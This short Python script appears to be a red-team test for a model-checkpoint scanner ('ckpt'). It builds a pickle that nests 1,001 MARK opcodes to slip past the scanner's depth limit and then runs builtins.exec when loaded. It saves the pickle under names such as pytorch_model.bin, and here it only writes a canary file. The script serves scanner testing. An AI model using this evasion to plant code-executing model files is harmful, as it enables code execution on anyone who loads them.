"""A pickle without a PROTO header (protocol 0 style) that opens 1,001 MARKs before naming its
global. CPython's unpickler (torch.load's legacy path, pickle.load) has no MARK depth limit and
runs builtins.exec (writes a canary file). ckpt's walk stops at its max_depth of 1,000 before
the global, so its sniffing decides the file is not a pickle: `ckpt lint` passes over it (a
.bin is "checked, nothing to report"; a file without a checkpoint suffix is skipped)."""
import sys

canary = sys.argv[1] if len(sys.argv) > 1 else "/tmp/rt_canary/mark_depth"
payload = (b"(" * 1001 + b"cbuiltins\nexec\n(V"
           + f"open({canary!r},'w').write('ran')".encode() + b"\ntR.")
for name in ("pytorch_model.bin", "model.weights"):
    open(name, "wb").write(payload)
print("wrote pytorch_model.bin model.weights")
